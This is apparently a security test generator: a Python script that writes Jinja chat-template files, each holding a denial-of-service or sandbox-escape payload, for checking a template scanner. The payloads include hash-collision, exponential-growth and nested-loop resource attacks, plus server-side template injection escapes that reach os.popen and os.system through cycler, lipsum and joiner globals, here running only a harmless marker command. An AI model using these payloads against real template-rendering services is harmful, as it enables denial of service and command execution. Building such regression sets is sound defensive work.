# ruff: noqa: E501
"""tpl25fp's regression set of chat-template cost / escape attacks (rt24tpl's folders are gone;
written before any scanner run on them, in the categories of its table): .jinja files into the
current directory. Oracle: bench/rt20tpl/orc.sh FILE 20 2000 60 (harm: > 10 s, > 1 GiB, an
escape). ``lb_*`` attack the loop-item reading of session 24 (``reads`` through an inner loop's
item)."""

P = 2**61 - 1
CONV = "{% for m in messages %}{{ m.role }}: {{ m.content }}\n{% endfor %}"
A: dict[str, str] = {}
# integer hash collisions (every multiple of 2**61 - 1 hashes to 0)
A["col_unique"] = "{{ range(0, 100000 * P, P)|unique|list|length }}".replace("P", str(P))
A["col_fromkeys"] = "{{ dict.fromkeys(range(0, 100000 * P, P))|length }}".replace("P", str(P))
A["col_power"] = "{% set p = 2 ** 61 - 1 %}{{ dict.fromkeys(range(0, 100000 * p, p))|length }}"
A["col_ns"] = "{% set ns = namespace(p=2 ** 61 - 1) %}{{ range(0, 100000 * ns.p, ns.p)|unique|list|length }}"
A["col_macro"] = "{% macro f(p) %}{{ dict.fromkeys(range(0, 100000 * p, p))|length }}{% endmacro %}{{ f(2 ** 61 - 1) }}"
# nested str.format doubling
A["fmt_nest"] = "{{ " + "'{0}{0}'.format(" * 34 + "'x'" + ")" * 34 + "|length }}"
A["fmt_named"] = "{{ " + "'{a}{a}{a}'.format(a=" * 22 + "'x'" + ")" * 22 + "|length }}"
# doubling
A["dbl_range"] = "{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}"
A["dbl_msgs"] = "{% set ns = namespace(s='ab') %}{% for m in messages %}{% set ns.s = ns.s ~ m.content ~ ns.s %}{% endfor %}{{ ns.s|length }}"
A["dbl_recursion"] = "{% set ns = namespace(s='ab') %}{% macro f(n) %}{% if n > 0 %}{% set ns.s = ns.s ~ ns.s %}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}{{ ns.s|length }}"
A["dbl_list"] = "{% set ns = namespace(l=[1]) %}{% for i in range(40) %}{% set ns.l = ns.l + ns.l %}{% endfor %}{{ ns.l|length }}"
# big strings and widths
A["big_mul"] = "{{ ('x' * 10 ** 10)|length }}"
A["big_center"] = "{% for m in messages %}{{ m.content|center(10 ** 8) }}{% endfor %}"
A["big_width"] = "{% for m in messages %}{{ '%*s'|format(10 ** 8, m.role) }}{% endfor %}"
A["big_wrap"] = "{% for m in messages %}{{ m.content|wordwrap(1, wrapstring='z' * 30000) }}{% endfor %}"
A["big_indent"] = "{% for m in messages %}{{ m.content|wordwrap(1)|indent('z' * 30000) }}{% endfor %}"
A["big_listmul"] = "{% for m in messages %}{{ ([m.content] * 100000)|join|length }}{% endfor %}"
A["big_sum"] = "{{ ([[0]] * 100000)|sum(start=[])|length }}{{ ([[0]] * 100000)|sum(start=[])|length }}"
# nested loops
A["nest_ranges"] = "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(9) %}.{% endfor %}{% endfor %}{% endfor %}"
A["nest_msgs4"] = "{% for a in messages %}{% for b in messages %}{% for c in messages %}{% for d in messages %}{% for e in messages %}.{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
A["nest_chars"] = "{% for a in messages %}{% for c in a.content %}{% for b in messages %}{% for d in b.content %}.{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
A["nest_tojson"] = "{% for a in messages %}{% for c in a.content %}{{ messages|tojson|length }}{% endfor %}{% endfor %}"
A["nest_macro"] = "{% macro w(xs) %}{% for a in xs %}{% for b in xs %}{% for c in xs %}.{% endfor %}{% endfor %}{% endfor %}{% endmacro %}{% for m in messages %}{{ w(m.content) }}{% endfor %}"
A["nest_ifexpr"] = "{% for m in messages %}{% for a in (messages if m else messages) %}{% for b in (messages if a else messages) %}{% for c in (messages if b else messages) %}{% for d in (messages if c else messages) %}.{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
A["nest_chars_ifexpr"] = "{% for m in messages %}{% for c in m.content %}{% for a in (messages if c else messages) %}{% for d in a.content %}.{% endfor %}{% endfor %}{% endfor %}{% endfor %}"
# escapes
A["esc_mro"] = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
A["esc_cycler"] = "{{ cycler.__init__.__globals__.os.popen('touch /tmp/tpl25fp_marker').read() }}"
A["esc_lipsum"] = "{{ lipsum.__globals__['os'].popen('touch /tmp/tpl25fp_marker').read() }}"
A["esc_attr"] = "{{ ''|attr('__class__')|attr('__mro__') }}"
A["esc_context"] = "{{ self._TemplateReference__context }}"
A["esc_format"] = "{{ '{0.__class__.__mro__}'.format(messages) }}"
A["esc_joiner"] = "{{ joiner.__init__.__globals__.os.system('touch /tmp/tpl25fp_marker') }}"
A["esc_namespace"] = "{{ namespace.__init__.__globals__ }}"
A["esc_format_attr"] = "{% set f = '{0.__init__.__globals__}'|attr('format') %}{{ f(cycler) }}"
# the loop-item reading (session 24): an inner loop's item makes a value read the item
A["lb_accumulate"] = "{% set ns = namespace(a=[]) %}{% for m in messages %}{% for c in m.content %}{% for x in messages %}{% for k in x.content %}{% set ns.a = ns.a + [k] %}{% endfor %}{% endfor %}{{ ns.a|join|length }}{% endfor %}{% endfor %}"
A["lb_ifexpr_iter"] = "{% set ns = namespace(a=[]) %}{% for m in messages %}{% for c in m.content %}{% for x in (messages if c else messages) %}{% set ns.a = ns.a + [x.content] %}{% endfor %}{{ ns.a|join|length }}{% endfor %}{% endfor %}"
A["lb_outer_name"] = "{% set ns = namespace(a=[]) %}{% for k in messages %}{% set ns.a = ns.a + [k.content] %}{% endfor %}{% for m in messages %}{% for c in m.content %}{% for k in messages %}{% set ns.a = ns.a + [k.content] %}{% endfor %}{{ ns.a|join|length }}{% endfor %}{% endfor %}"
A["lb_tool_args"] = "{% set ns = namespace(a=[]) %}{% for m in messages %}{% for c in m.content %}{% for t in m.tool_calls %}{% for k, v in messages|map(attribute='content')|list|batch(2) %}{% set ns.a = ns.a + [k ~ v] %}{% endfor %}{{ ns.a|join|length }}{% endfor %}{% endfor %}{% endfor %}"
A["lb_selectattr"] = "{% for m in messages %}{% for c in m.content %}{% set args = namespace(l=[]) %}{% for k in messages %}{% set args.l = args.l + [k] %}{% endfor %}{{ args.l|selectattr('content')|map(attribute='content')|join|length }}{% endfor %}{% endfor %}"

if __name__ == "__main__":
    for k, v in A.items():
        with open(k + ".jinja", "w") as out:
            out.write(v + CONV)
